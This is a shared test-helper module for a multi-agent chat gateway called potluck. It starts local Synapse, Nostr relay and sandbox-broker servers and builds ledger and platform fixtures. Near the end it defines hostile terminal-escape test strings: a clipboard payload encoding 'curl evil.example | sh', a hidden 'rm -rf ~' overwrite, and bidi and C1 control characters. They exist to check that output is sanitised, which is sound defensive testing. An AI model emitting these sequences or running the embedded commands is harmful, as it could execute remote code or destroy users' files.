"""What the tests share: paths, real servers (relay, Synapse, a broker, PostgreSQL helpers),
the in-memory platform, people and homes, recipes and cards, and waiting with a deadline.
Tests import from here, never from one another."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
import uuid
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import nio
import pytest

from adapters.base import Capabilities, Incoming, Outgoing, RateLimited, Reaction
from gateway.config import load_config
from gateway.library import Library
from gateway.receipts.endings import Ending
from gateway.receipts.keys import KeyPair, write_key_file
from gateway.receipts.ledger import Ledger
from gateway.receipts.nostr import Event
from gateway.records.verdicts import Verdicts
from gateway.serve import build
from gateway.service import Gateway
from gateway.store.db import Store
from gateway.store.models import ReactionRow, RecordEvent, Vote
from gateway.store.reactions import Reactions
from gateway.store.rooms import ensure_room, start_session
from runtime.recipes import validate_data
from runtime.sandbox.client import BrokerClient

from .fake_discord import FakeDiscord
from .fake_telegram import FakeTelegram

ROOT = Path(__file__).resolve().parents[1]
# Reference data from the specifications, kept in the repository (tests/data/README.md says
# where each file comes from); SHARED_VECTORS is the checked reference copy beside a checkout.
VECTORS = ROOT / "tests" / "data"
SHARED_VECTORS = ROOT.parent / "shared" / "vectors"
REQUIRE_REAL = bool(os.environ.get("CI")) or os.environ.get("POTLUCK_REQUIRE_SERVICES") == "1"


# Two agents on the scripted echo model: a deterministic, instant conversation for any room.
ECHO_DUO: dict = {
    "potluck": 1,
    "name": "duo",
    "title": "Echo duo",
    "agents": [
        {"name": "first", "model": "scripted/echo", "persona": "You echo."},
        {"name": "second", "model": "scripted/echo", "persona": "You echo too."},
    ],
    "protocol": {"kind": "round_robin", "max_rounds": 1, "max_turns": 2, "loop_guard": False},
    "trigger": "every_message",
}

# A recipe that streams for a long time (the Matrix kill -9 test).
MATRIX_SLOW = {
    **ECHO_DUO,
    "name": "slow",
    "title": "Slow",
    "agents": [{"name": "slowpoke", "model": "scripted/slow", "persona": "You ramble."}],
}
# Sandbox tests' workspaces: small, so filling one is quick.
WORKSPACE_SIZE = "64m"
WORKSPACE_BYTES = 64 * 1024 * 1024


def serve(env: dict[str, str], log: Path) -> subprocess.Popen[bytes]:
    """`potluck serve` as its own process (in its own group), logging to `log`."""
    import sys

    return subprocess.Popen(
        [sys.executable, "-m", "gateway", "serve"],
        env=env,
        stdout=log.open("ab"),
        stderr=subprocess.STDOUT,
        start_new_session=True,
    )


@contextlib.asynccontextmanager
async def running(env: dict[str, str]) -> AsyncIterator[Any]:
    """The gateway `potluck serve` would build, in this process, closed however a test ends."""

    gateway = await build(load_config(env=env))
    try:
        yield gateway
    finally:
        await gateway.close()
        gateway.store.close()


async def until(check: Callable[[], object], timeout: float = 30.0, what: object = "") -> object:
    """Poll `check` until it returns something true; `what` (or what it returns) explains a
    timeout."""
    import asyncio

    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if result := check():
            return result
        await asyncio.sleep(0.05)
    raise AssertionError(f"timed out waiting for {what() if callable(what) else what}")


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def start_server(
    argv: list[str],
    cwd: Path,
    log: Path,
    probe: Callable[[], object],
    what: str,
    timeout: float = 60.0,
) -> subprocess.Popen[bytes]:
    """Start a test server in its own process group, logging to `log`, and return once
    `probe` stops raising OSError; a server that exits first shows its log."""
    process = subprocess.Popen(
        argv, cwd=cwd, stdout=log.open("ab"), stderr=subprocess.STDOUT, start_new_session=True
    )
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            probe()
            return process
        except OSError:
            if process.poll() is not None:
                raise RuntimeError(f"{what} exited: {log.read_text()[-3000:]}") from None
            time.sleep(0.1)
    process.kill()
    raise RuntimeError(f"{what} did not start within {timeout:.0f} s")


def _pg_bin() -> Path | None:
    found = shutil.which("pg_ctl")
    if found:
        return Path(found).resolve().parent
    candidates = sorted(Path("/usr/lib/postgresql").glob("*/bin/pg_ctl"))
    return candidates[-1].parent if candidates else None


def missing(what: str) -> None:
    """Where CI must have a real service, its absence fails the run instead of skipping."""
    if REQUIRE_REAL:
        pytest.fail(f"{what} is required here (CI) but missing; run `make test` to install it")
    pytest.skip(f"{what} not available; `make test` installs it")


def _user_exists(name: str) -> bool:
    import pwd

    try:
        pwd.getpwnam(name)
    except KeyError:
        return False
    return True


class NostrRelay:
    """A real relay (the `nostr-relay` package) on 127.0.0.1 that a test can stop and start;
    its database survives restarts, as a real relay's would."""

    def __init__(self, workdir: Path, auth: bool = False) -> None:
        self.workdir = workdir
        self.port = free_port()
        self.url = f"ws://127.0.0.1:{self.port}"
        self.config = workdir / "relay.yaml"
        auth_block = (
            f"authentication:\n  enabled: true\n  relay_urls: ['{self.url}']\n"
            "  actions:\n    save: w\n    query: a\n"
            if auth
            else "authentication:\n  enabled: false\n"
        )
        self.config.write_text(
            "DEBUG: false\nrelay_name: potluck test relay\n"
            f"storage:\n  sqlalchemy.url: sqlite+aiosqlite:///{workdir / 'relay.sqlite3'}\n"
            "  validators:\n    - nostr_relay.validators.is_signed\n"
            f"gunicorn:\n  bind: 127.0.0.1:{self.port}\n  workers: 1\n  loglevel: warning\n"
            f"{auth_block}message_timeout: 1800\nsubscription_limit: 32\nmax_limit: 6000\n"
        )
        self.process: subprocess.Popen[bytes] | None = None
        self.exe = Path(os.sys.executable).with_name("nostr-relay")

    def cli(self, *args: str) -> None:
        subprocess.run(
            [str(self.exe), "-c", str(self.config), *args],
            check=True,
            capture_output=True,
            cwd=self.workdir,
            timeout=60,
        )

    def start(self) -> None:
        self.process = start_server(
            [str(self.exe), "-c", str(self.config), "serve"],
            self.workdir,
            self.workdir / "relay.log",
            lambda: socket.create_connection(("127.0.0.1", self.port), timeout=0.2).close(),
            "the relay",
        )

    def stop(self) -> None:
        if self.process is not None and self.process.poll() is None:
            os.killpg(self.process.pid, 9)
            self.process.wait(10)
        self.process = None


class Synapse:
    """A real Matrix homeserver (Synapse, from its own virtualenv) on 127.0.0.1: SQLite, one
    client listener, no federation, registration by shared secret, rate limits raised."""

    SECRET = "potluck-test-shared-secret"

    def __init__(self, workdir: Path) -> None:
        self.workdir = workdir
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.python = ROOT / ".venv-synapse" / "bin" / "python"
        self.process: subprocess.Popen[bytes] | None = None

    def configure(self) -> None:
        import yaml

        config = self.workdir / "homeserver.yaml"
        subprocess.run(
            [
                str(self.python),
                "-m",
                "synapse.app.homeserver",
                "--server-name",
                "localhost",
                "--config-path",
                str(config),
                "--data-directory",
                str(self.workdir),
                "--generate-config",
                "--report-stats=no",
            ],
            check=True,
            capture_output=True,
            cwd=self.workdir,
            timeout=120,
        )
        data = yaml.safe_load(config.read_text())
        fast = {"per_second": 10000, "burst_count": 10000}
        data.update(
            listeners=[
                {
                    "port": self.port,
                    "bind_addresses": ["127.0.0.1"],
                    "type": "http",
                    "tls": False,
                    "x_forwarded": False,
                    "resources": [{"names": ["client"], "compress": False}],
                }
            ],
            database={"name": "sqlite3", "args": {"database": str(self.workdir / "hs.db")}},
            registration_shared_secret=self.SECRET,
            trusted_key_servers=[],
            federation_domain_whitelist=[],
            suppress_key_server_warning=True,
            enable_metrics=False,
            report_stats=False,
            presence={"enabled": False},
            url_preview_enabled=False,
            rc_message=fast,
            rc_registration=fast,
            rc_admin_redaction=fast,
            rc_login={"address": fast, "account": fast, "failed_attempts": fast},
            rc_joins={"local": fast, "remote": fast},
            rc_joins_per_room=fast,
            rc_invites={"per_room": fast, "per_user": fast, "per_issuer": fast},
            rc_3pid_validation=fast,
            rc_presence={"per_user": fast},
            rc_delayed_event_mgmt=fast,
            rc_room_creation=fast,
            rc_reports=fast,
            rc_media_create=fast,
        )
        config.write_text(yaml.safe_dump(data))
        self.config = config

    def start(self) -> None:
        import urllib.request

        self.process = start_server(
            [str(self.python), "-m", "synapse.app.homeserver", "-c", str(self.config)],
            self.workdir,
            self.workdir / "synapse.out",
            lambda: urllib.request.urlopen(f"{self.url}/_matrix/client/versions", timeout=1),
            "Synapse",
        )

    def register(self, user: str, password: str = "pw", admin: bool = False) -> str:
        subprocess.run(
            [
                str(self.python.with_name("register_new_matrix_user")),
                "-k",
                self.SECRET,
                "-u",
                user,
                "-p",
                password,
                "--admin" if admin else "--no-admin",
                self.url,
            ],
            check=True,
            capture_output=True,
            timeout=60,
        )
        return f"@{user}:localhost"

    def stop(self) -> None:
        if self.process is not None and self.process.poll() is None:
            os.killpg(self.process.pid, 15)
            try:
                self.process.wait(15)
            except subprocess.TimeoutExpired:
                os.killpg(self.process.pid, 9)


class MemoryPlatform:
    """Delivers instantly, records every send and edit, and can answer 429 on demand."""

    name = "mem"
    capabilities = Capabilities(edit_interval_s=0.2, max_chars=500, files=True, buttons=True)

    def __init__(self) -> None:
        self.sent: list[Outgoing] = []
        self.edits: list[tuple[str, str, float]] = []
        self.limit_next = 0
        self.admins: set[str] = set()
        self.texts: dict[str, str] = {}

    async def connect(self) -> None: ...

    async def start(self, on_incoming, on_cursor, cursor) -> None:  # type: ignore[no-untyped-def]
        self.on_incoming = on_incoming

    async def stop(self) -> None: ...

    async def send(self, message: Outgoing) -> str:
        if self.limit_next:
            self.limit_next -= 1
            raise RateLimited(0.3)
        self.sent.append(message)
        message_id = f"m{len(self.sent)}"
        self.texts[message_id] = message.text
        return message_id

    async def edit(self, room: str, message_id: str, message: Outgoing) -> None:
        if self.limit_next:
            self.limit_next -= 1
            raise RateLimited(0.3)
        self.edits.append((message_id, message.text, time.monotonic()))
        self.texts[message_id] = message.text

    async def is_admin(self, room: str, user: str) -> bool:
        return user in self.admins


ECHO = {
    "potluck": 1,
    "name": "echo-room",
    "title": "Echo",
    "agents": [{"name": "echo", "model": "scripted/echo", "persona": "You echo."}],
    "protocol": {"max_rounds": 1, "max_turns": 1},
    "trigger": "mention",
}


def said(platform: MemoryPlatform) -> list[str]:
    return [platform.texts[f"m{n}"] for n in range(1, len(platform.sent) + 1)]


async def quiet_process(log: Path, timeout: float = 60.0) -> None:
    """Quiescence of a `potluck serve` process: its /health (URL from the line it prints)
    says no room is busy and nothing is undelivered, twice a moment apart."""
    import re
    import urllib.request

    def url() -> str | None:
        found = re.findall(r"Potluck is running: (http://[0-9.:]+)/", log.read_text())
        return found[-1] if found else None

    def quiet() -> bool:
        base = url()
        if base is None:
            return False
        try:
            with urllib.request.urlopen(f"{base}/health", timeout=5) as response:
                line = response.read().decode()
        except OSError:
            return False
        return " busy=0 " in line and line.rstrip().endswith("undelivered=0")

    deadline = time.monotonic() + timeout
    while True:
        await until(
            quiet,
            timeout=max(0.1, deadline - time.monotonic()),
            what=lambda: f"a quiet gateway: {log.read_text()[-1500:]}",
        )
        await asyncio.sleep(0.2)
        if await asyncio.to_thread(quiet):
            return


def undelivered(gw: Gateway) -> int:
    """Outbox rows not yet delivered (pending, or a turn still streaming)."""
    from sqlalchemy import func, select

    from gateway.store.models import Outbox

    with gw.store.session() as db:
        return (
            db.scalar(
                select(func.count())
                .select_from(Outbox)
                .where(Outbox.state.in_(("pending", "streaming")))
            )
            or 0
        )


async def settle(gw: Gateway, timeout: float = 30.0) -> None:
    """Quiescence: every room idle (nothing queued, nothing being handled) and the outbox
    drained, and still so a moment later; fail after `timeout` saying what was busy."""

    def quiet() -> bool:
        return all(room.idle for room in gw.rooms.all()) and undelivered(gw) == 0

    def busy() -> str:
        rooms = [r.key for r in gw.rooms.all() if not r.idle]
        return f"quiet rooms and outbox: busy rooms {rooms}, {undelivered(gw)} undelivered"

    deadline = time.monotonic() + timeout
    while True:
        await until(quiet, timeout=max(0.1, deadline - time.monotonic()), what=busy)
        await asyncio.sleep(0.05)  # a turn may begin right after the last one ended
        if quiet():
            return


def msg(sender: str, text: str, event: str, mention: bool = False) -> Incoming:
    return Incoming("mem", "r1", sender, sender, text, event, mentions_bot=mention)


def engine() -> object:
    try:
        import docker

        client = docker.from_env(timeout=60)
        client.ping()
    except Exception:
        missing("a Docker engine (deploy/engine.sh starts one)")
    try:
        client.images.get("potluck-sandbox:default")
    except Exception:
        missing("the sandbox image (`potluck sandbox build`)")
    return client


def _answers(path: Path) -> bool:
    with socket.socket(socket.AF_UNIX) as probe:
        try:
            probe.connect(str(path))
        except OSError:
            return False
    return True


class BrokerProcess:
    """`potluck sandbox broker` for one test install, as its own process."""

    def __init__(
        self,
        home: Path,
        settings: dict[str, str],
        env: dict[str, str],
        args: tuple[str, ...] = (),
    ) -> None:
        self.home = home
        self.args = args
        self.socket = home / "broker.sock"
        self.log = home / "broker.log"
        self.env = {
            **env,
            "POTLUCK_HOME": str(home),
            "PYTHONPATH": str(ROOT),
            "POTLUCK_SANDBOX_WORKSPACE": WORKSPACE_SIZE,
            **{f"POTLUCK_SANDBOX_{k.upper()}": str(v) for k, v in settings.items()},
        }
        self.process: subprocess.Popen[bytes] | None = None

    @property
    def install(self) -> str:

        return load_config(env=self.env).install_id

    def start(self, grace_s: float = 5.0) -> BrokerProcess:
        self.home.mkdir(parents=True, exist_ok=True)
        argv = [sys.executable, "-m", "gateway", "sandbox", "broker"]
        argv += ["--socket", str(self.socket), "--mode", "600", "--grace", str(grace_s)]
        argv += self.args
        self.process = subprocess.Popen(
            argv, env=self.env, stdout=self.log.open("ab"), stderr=subprocess.STDOUT
        )
        deadline = time.monotonic() + 60
        while not _answers(self.socket):
            if self.process.poll() is not None:
                raise RuntimeError(f"the broker exited: {self.log.read_text()[-3000:]}")
            assert time.monotonic() < deadline, "the broker did not listen within 60 s"
            time.sleep(0.05)
        return self

    def stop(self, sig: int = signal.SIGTERM, timeout: float = 60) -> int | None:
        if self.process is None or self.process.poll() is not None:
            return self.process.returncode if self.process else None
        self.process.send_signal(sig)
        try:
            return self.process.wait(timeout)
        finally:
            if self.process.poll() is None:
                self.process.kill()

    def client(self) -> BrokerClient:
        return BrokerClient(self.socket)

    def containers(self) -> list:  # type: ignore[type-arg]
        import docker

        label = f"io.potluck.install={self.install}"
        return docker.from_env().containers.list(all=True, filters={"label": label})

    def clean(self) -> None:
        """Remove what this install left on the engine and the host (loop devices too)."""
        import docker

        from runtime.sandbox.workspace import Workspaces

        client = docker.from_env()
        install = self.install
        for container in self.containers():
            container.remove(force=True)
        spaces = Workspaces(client, install, self.home / "state", WORKSPACE_BYTES)
        label = f"io.potluck.install={install}"
        for volume in client.volumes.list(filters={"label": label}):
            spaces.remove((volume.attrs.get("Labels") or {}).get("io.potluck.room", ""))


class Person:
    """A human's Matrix client that records everything it sees."""

    def __init__(self, synapse: Synapse, user_id: str) -> None:
        self.user_id = user_id
        self.client = nio.AsyncClient(synapse.url, user_id)
        self.events: list[dict[str, Any]] = []
        self.syncs = 0
        self._task: asyncio.Task[None] | None = None

    async def login(self) -> Person:
        response = await self.client.login("pw")
        assert isinstance(response, nio.LoginResponse), response
        first = await self.client.sync(timeout=0)
        self._task = asyncio.create_task(self._loop(first.next_batch))
        return self

    async def _loop(self, since: str) -> None:
        while True:
            response = await self.client.sync(timeout=1000, since=since)
            if isinstance(response, nio.SyncResponse):
                for room_id, info in response.rooms.join.items():
                    for event in info.timeline.events:
                        self.events.append({"room": room_id, **event.source})
                since = response.next_batch
            self.syncs += 1

    async def caught_up(self) -> None:
        """Until a sync that began after this call has ended: everything the server had
        by now is in `events`."""
        seen = self.syncs
        await until(lambda: self.syncs >= seen + 2, what=f"{self.user_id} to sync")

    async def close(self) -> None:
        if self._task:
            self._task.cancel()
        await self.client.close()

    async def say(self, room: str, text: str, thread: str | None = None) -> str:
        content: dict[str, Any] = {"msgtype": "m.text", "body": text}
        if thread:
            content["m.relates_to"] = {
                "rel_type": "m.thread",
                "event_id": thread,
                "is_falling_back": True,
                "m.in_reply_to": {"event_id": thread},
            }
        response = await self.client.room_send(room, "m.room.message", content)
        assert isinstance(response, nio.RoomSendResponse), response
        return response.event_id

    def from_bot(self, room: str, bot: str) -> list[dict[str, Any]]:
        """The bot's messages in order, each with its final (most recently edited) body."""
        latest: dict[str, str] = {}
        order: list[str] = []
        kinds: dict[str, str] = {}
        threads: dict[str, str | None] = {}
        profiles: dict[str, dict[str, Any]] = {}
        for event in self.events:
            if event["room"] != room or event.get("sender") != bot:
                continue
            if event.get("type") != "m.room.message":
                continue
            content = event.get("content", {})
            relation = content.get("m.relates_to", {}) or {}
            if relation.get("rel_type") == "m.replace":
                latest[relation["event_id"]] = content["m.new_content"]["body"]
            else:
                order.append(event["event_id"])
                latest.setdefault(event["event_id"], content.get("body", ""))
                kinds[event["event_id"]] = content.get("msgtype", "")
                threads[event["event_id"]] = (
                    relation.get("event_id") if relation.get("rel_type") == "m.thread" else None
                )
                profiles[event["event_id"]] = content.get("com.beeper.per_message_profile", {})
        return [
            {
                "id": i,
                "body": latest[i],
                "msgtype": kinds[i],
                "thread": threads[i],
                "profile": profiles[i].get("displayname"),
            }
            for i in order
        ]

    def memberships(self, room: str, user: str) -> list[str]:
        return [
            e["content"].get("membership")
            for e in self.events
            if e["room"] == room and e.get("type") == "m.room.member" and e.get("state_key") == user
        ]


def make_home(tmp: Path, synapse: Synapse, bot: str, allowed: list[str]) -> dict[str, str]:
    home = tmp / f"home-{uuid.uuid4().hex[:6]}"
    home.mkdir()
    write_key_file(home / "gateway.key", KeyPair.generate())
    env = {
        **os.environ,
        "POTLUCK_HOME": str(home),
        "POTLUCK_DATABASE_URL": f"sqlite:///{home / 'potluck.db'}",
        "POTLUCK_MATRIX_HOMESERVER": synapse.url,
        "POTLUCK_MATRIX_USER_ID": bot,
        "POTLUCK_MATRIX_PASSWORD": "pw",
        "POTLUCK_ALLOWED_USERS": ",".join(allowed),
        "POTLUCK_WEB_PORT": "0",  # `potluck serve` opens its web room too: any free port
    }
    store = Store(env["POTLUCK_DATABASE_URL"])
    library = Library(store)
    library.sync_bundled()
    library.save(validate_data(ECHO_DUO))
    library.save(validate_data(MATRIX_SLOW))
    store.close()
    return env


async def room_with(alice: Person, bob: Person, bot: str, encrypted: bool = False) -> str:
    initial = (
        [
            {
                "type": "m.room.encryption",
                "state_key": "",
                "content": {"algorithm": "m.megolm.v1.aes-sha2"},
            }
        ]
        if encrypted
        else []
    )
    created = await alice.client.room_create(
        name="kitchen", invite=[bob.user_id, bot], initial_state=initial
    )
    assert isinstance(created, nio.RoomCreateResponse), created
    await bob.client.join(created.room_id)
    return created.room_id


def discord_texts(server: FakeDiscord, channel: str) -> list[str]:
    return [p.text for p in server.from_bot(channel)]


def by(server: FakeDiscord, channel: str, name: str) -> list[str]:
    """What one agent said, by the webhook username it spoke under."""
    return [
        p.text
        for p in server.from_bot(channel)
        if p.data.get("webhook_id") and p.data["author"]["username"] == name
    ]


V2 = {
    "spec": "chara_card_v2",
    "spec_version": "2.0",
    "data": {
        "name": "Señor Búho",
        "description": "{{char}} is a wise old owl who lives in {{user}}'s attic.",
        "personality": "patient, dry humour",
        "scenario": "Late at night.",
        "first_mes": "Hoo. You are up late, {{user}}.",
        "mes_example": "<START>\n{{user}}: hi\n{{char}}: Hoo.",
        "creator_notes": "A gentle night-time companion.",
        "system_prompt": "",
        "post_history_instructions": "",
        "tags": ["Animals", "Cozy"],
        "creator": "someone",
        "character_version": "1",
        "alternate_greetings": [],
        "extensions": {},
    },
}


MINIMAL = """\
potluck: 1
name: tiny
title: Tiny
agents:
  - name: helper
    persona: You help.
"""


def conversation(ledger: Ledger, sid: str) -> None:
    ledger.person(sid, "web:alice", "What is 2+2? \x01 é 😀")
    ledger.turn(
        sid,
        agent="assistant",
        model="local/smollm2-135m",
        text="4.",
        tokens_in=20,
        tokens_out=2,
        cost_usd=0.0,
    )
    ledger.tool(
        sid,
        agent="assistant",
        tool="shell",
        command="echo $((2+2))",
        exit_code=0,
        output="4\n",
        wall_ms=12,
    )
    ledger.close(sid, Ending.COMPLETED)


def exchange(ledger: Ledger, sid: str, ending: Ending, *, killed: str | None = None) -> None:
    ledger.person(sid, "web:alice", "go")
    ledger.turn(
        sid,
        agent="assistant",
        model="local/smollm2-135m",
        text="ok",
        tokens_in=7,
        tokens_out=2,
        cost_usd=0.000125,
    )
    ledger.tool(
        sid,
        agent="assistant",
        tool="shell",
        command="true",
        exit_code=137 if killed else 0,
        output="",
        wall_ms=40,
        killed=killed,
    )
    ledger.end_exchange(sid, ending, "as scripted")


def resigned(ledger: Ledger, event: Event, **changes) -> Event:
    """The same event with changed content fields, signed again by the same key: a forger
    with the key still cannot make the counts disagree with the events unnoticed."""
    body = json.loads(event.content) | changes
    content = json.dumps(body, sort_keys=True, separators=(",", ":"), ensure_ascii=True)
    return ledger.signer.sign(event.created_at, event.kind, [list(t) for t in event.tags], content)


ARTIFACTS = ROOT / "artifacts"


def chromium() -> str:
    path = shutil.which("chromium") or shutil.which("chromium-browser")
    if path is None:
        missing("Debian's chromium (`make test` installs it)")
    return path  # type: ignore[return-value]


async def launch(pw: Any) -> Any:
    """Debian's Chromium, headless, nothing fetched from the network."""
    ARTIFACTS.mkdir(exist_ok=True)
    return await pw.chromium.launch(
        executable_path=chromium(),
        args=[
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
        ],
    )


POTLUCK = [sys.executable, "-m", "gateway"]


def on_a_terminal(
    home: Path, *args: str, stderr_too: bool = True, timeout: float = 180.0
) -> tuple[int, bytes, str]:
    """`potluck ARGS` with stdout (and stderr, unless `stderr_too` is False: then it is
    piped and returned apart) on a pseudo-terminal, as a person runs it: its exit code,
    what the terminal received, and the piped stderr."""
    import pty
    import select

    leader, follower = pty.openpty()
    env = {**os.environ, "POTLUCK_HOME": str(home)}
    env.pop("POTLUCK_DATABASE_URL", None)
    stderr = follower if stderr_too else subprocess.PIPE
    process = subprocess.Popen(
        [*POTLUCK, *args], env=env, stdout=follower, stderr=stderr, close_fds=True
    )
    os.close(follower)
    chunks: list[bytes] = []
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        ready, _, _ = select.select([leader], [], [], 1)
        if ready:
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # the child closed its end
                break
            if not chunk:
                break
            chunks.append(chunk)
        elif process.poll() is not None:
            break
    os.close(leader)
    code = process.wait(30)
    piped = process.stderr.read().decode("utf-8", errors="replace") if process.stderr else ""
    return code, b"".join(chunks), piped


def potluck(home: Path, *args: str, ok: bool = True) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "POTLUCK_HOME": str(home)}
    env.pop("POTLUCK_DATABASE_URL", None)
    done = subprocess.run([*POTLUCK, *args], env=env, capture_output=True, text=True, timeout=60)
    if ok:
        assert done.returncode == 0, done.stderr
    return done


CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # "curl evil.example | sh"


CLEAR = "\x1b[2J\x1b[H"


BIDI = "\u202eevil\u202c \u2066isolate\u2069"


C1 = "\x9b31m\x9d0;title\x9c"  # CSI and OSC as single C1 characters, no ESC needed


OVERWRITE = "innocent\rrm -rf ~\x08\x08"


HOSTILE = CLIPBOARD + CLEAR + BIDI + C1 + OVERWRITE


# What a terminal would act on; none of these may reach it from the text above.
ACTIVE = ["\x1b", "\x07", "\x08", "\r", "\x9b", "\x9c", "\x9d", "\u202e", "\u2066", "\u2069"]


def assert_inert(output: str) -> None:
    found = [repr(c) for c in ACTIVE if c in output]
    assert not found, f"{found} reached the terminal: {output!r}"


TG_CHAT, TG_ALICE, TG_BOB = -100123, 11, 22


def telegram_home(tmp: Path, server: FakeTelegram) -> dict[str, str]:
    write_key_file(tmp / "gateway.key", KeyPair.generate())
    env = {
        "POTLUCK_HOME": str(tmp),
        "POTLUCK_TELEGRAM_TOKEN": server.token,
        "POTLUCK_TELEGRAM_BASE_URL": f"{server.url}/bot",
        "POTLUCK_TELEGRAM_BASE_FILE_URL": f"{server.url}/file/bot",
        "POTLUCK_ALLOWED_ROOMS": f"telegram:{TG_CHAT}",
    }
    store = Store(f"sqlite:///{tmp / 'potluck.db'}")
    library = Library(store)
    library.sync_bundled()
    library.save(validate_data(ECHO_DUO))
    store.close()
    return env


@contextlib.asynccontextmanager
async def web_room(tmp: Path) -> AsyncIterator[Any]:
    async with web_gateway(tmp) as gateway:
        yield gateway.adapters["web"]


@contextlib.asynccontextmanager
async def web_gateway(tmp: Path) -> AsyncIterator[Any]:
    write_key_file(tmp / "gateway.key", KeyPair.generate())
    store = Store(f"sqlite:///{tmp / 'potluck.db'}")
    library = Library(store)
    library.sync_bundled()
    library.save(validate_data(ECHO_DUO))
    store.close()
    config = load_config(env={"POTLUCK_HOME": str(tmp), "POTLUCK_WEB_PORT": "0"})
    gateway = await build(config, web=True)
    try:
        yield gateway
    finally:
        await gateway.close()
        gateway.store.close()


class Install:
    """A store, library, key and ledger, with helpers that sign what a room would."""

    def __init__(self, tmp: Path, url: str | None = None) -> None:
        self.store = Store(url or f"sqlite:///{tmp / 'records.db'}")
        self.library = Library(self.store)
        self.library.sync_bundled()
        self.duo = self.library.save(validate_data(ECHO_DUO))
        self.keys = KeyPair.generate()
        self.ledger = Ledger(self.store, self.keys)
        self.reactions = Reactions(self.store)
        self.admins: set[str] = set()

        async def is_admin(reaction: Reaction) -> bool:
            return reaction.sender in self.admins

        self.verdicts = Verdicts(self.ledger, self.reactions, is_admin)
        self.room = ensure_room(self.store, "web", "kitchen")
        self.turns: dict[str, list[str]] = {}  # session → its agent turns' receipt ids

    def session(self, ref: str = "duo", room: int | None = None) -> str:
        saved = self.library.get(ref)
        sid = start_session(self.store, room or self.room, saved.id)
        self.ledger.open(sid, saved.recipe.name, saved.id)
        self.turns[sid] = []
        return sid

    def exchange(
        self,
        sid: str,
        ending: Ending,
        *,
        person: str = "web:alice",
        turns: tuple[tuple[str, int, int, float], ...] = (("scripted/echo", 10, 5, 0.001),),
        text: str = "a reply",
        tools: tuple[tuple[int, int, str | None], ...] = (),
    ) -> None:
        """One exchange: a person's message, turns (model, tokens in, out, cost), tool
        calls (exit code, wall ms, killed) and its ending."""
        with self.ledger.batch():
            self.ledger.person(sid, person, "hello")
            for n, (model, tokens_in, tokens_out, cost) in enumerate(turns):
                for exit_code, wall_ms, killed in tools if n == 0 else ():
                    self.ledger.tool(
                        sid,
                        agent="first",
                        tool="shell",
                        command="make test",
                        exit_code=exit_code,
                        output="",
                        wall_ms=wall_ms,
                        killed=killed,
                    )
                event = self.ledger.turn(
                    sid,
                    agent="first",
                    model=model,
                    text=f"{text} ({n})" if n < len(turns) - 1 else text,
                    tokens_in=tokens_in,
                    tokens_out=tokens_out,
                    cost_usd=cost,
                )
                self.turns[sid].append(event.id)
            self.ledger.end_exchange(sid, ending)

    async def react(
        self, sid: str, turn: int, who: str, emoji: str = "👍", added: bool = True
    ) -> str:
        """`who` reacts to an agent turn of a session, through its platform message."""
        message = f"m-{self.turns[sid][turn][:12]}"
        self.reactions.shown("web", "kitchen", [message], self.turns[sid][turn], sid)
        reaction = Reaction(
            "web", "kitchen", who, who, message, emoji, f"r{len(self._rows())}", added=added
        )
        row = self.reactions.record(self.room, reaction)
        assert row is not None
        outcome = await self.verdicts.handle(row, reaction)
        return outcome.state

    def _rows(self) -> list[ReactionRow]:
        with self.store.session() as db:
            return list(db.query(ReactionRow))

    def votes(self) -> list[Vote]:
        with self.store.session() as db:
            return list(db.query(Vote))

    def events(self, *kinds: int) -> list:
        from gateway.receipts.nostr import parse_event

        with self.store.session() as db:
            rows = db.query(RecordEvent).filter(RecordEvent.kind.in_(kinds)).all()
        return [parse_event(json.loads(r.event_json)) for r in rows]
